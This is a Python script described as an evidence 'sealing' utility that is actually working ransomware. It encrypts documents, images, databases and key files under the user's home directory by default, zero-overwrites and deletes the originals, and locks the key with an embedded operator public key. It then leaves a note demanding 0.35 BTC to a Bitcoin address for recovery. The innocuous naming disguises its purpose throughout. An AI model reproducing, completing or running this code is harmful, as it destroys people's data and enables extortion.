#!/usr/bin/env python3
"""Evidence vault 'sealing' utility.

Seals every document under the target tree with a per-run key so the
originals cannot be altered, and leaves instructions for unsealing.
"""
import argparse
import base64
import logging
import os
import secrets
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

LOG = logging.getLogger("vaultseal")
SUFFIX = ".sealed"
EXTENSIONS = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".txt",
              ".csv", ".sql", ".db", ".zip", ".pptx", ".odt", ".key", ".pem"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "snap"}
OPERATOR_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAtV1d3p0n7cV0nq3p0Yb9
lJ1x7Qm0Zb2XyYp5vS0tq4mQy2m9i0h0wY5kq1b8sJm0l8xQ5l0cK2mM2V7yX3f1
2x9u7b9Kp3N0q2cT0Qv6i2o3m1YzX2j8kF7p2d9k0r3w5e7t1y6u4i8o0p2a4s6d
8f0g2h4j6k8l0z2x4c6v8b0n2m4q6w8e0r2t4y6u8i0o2p4a6s8d0f2g4h6j8k0l
2z4x6c8v0b2n4m6q8w0e2r4t6y8u0i2o4p6a8s0d2f4g6h8j0k2l4z6x8c0v2b4n
6m8q0w2e4r6t8y0u2i4o6p8a0s2d4f6g8h0j2k4l6z8x0c2v4b6n8m0q2w4e6r8t
0wIDAQAB
-----END PUBLIC KEY-----"""
NOTE = """Your files in {root} have been sealed ({count} files).
The sealing key is held by the evidence custodian. To recover your data,
send the ID below and 0.35 BTC to bc1q9h6tq7w4ln3k2x0v8p5r4c2m7d6s5a3f0g9j8
Sealing ID: {token}
"""


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTENSIONS and not p.is_symlink():
                yield p


class Sealer:
    def __init__(self):
        self.key = ChaCha20Poly1305.generate_key()
        self.aead = ChaCha20Poly1305(self.key)
        self.count = 0

    def wrapped_key(self) -> str:
        pub = serialization.load_pem_public_key(OPERATOR_PUB)
        blob = pub.encrypt(self.key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                                  algorithm=hashes.SHA256(), label=None))
        return base64.b64encode(blob).decode()

    def seal(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
            nonce = secrets.token_bytes(12)
            sealed = nonce + self.aead.encrypt(nonce, data, path.name.encode())
            path.with_name(path.name + SUFFIX).write_bytes(sealed)
            with path.open("r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
            self.count += 1
            return True
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
            return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("root", nargs="?", default=str(Path.home()))
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    root = Path(args.root)
    sealer = Sealer()
    token = sealer.wrapped_key()
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        list(pool.map(sealer.seal, candidates(root)))
    sealer.key = None
    (root / "HOW_TO_UNSEAL.txt").write_text(NOTE.format(root=root, count=sealer.count, token=token))
    LOG.info("sealed %d files under %s", sealer.count, root)


if __name__ == "__main__":
    main()
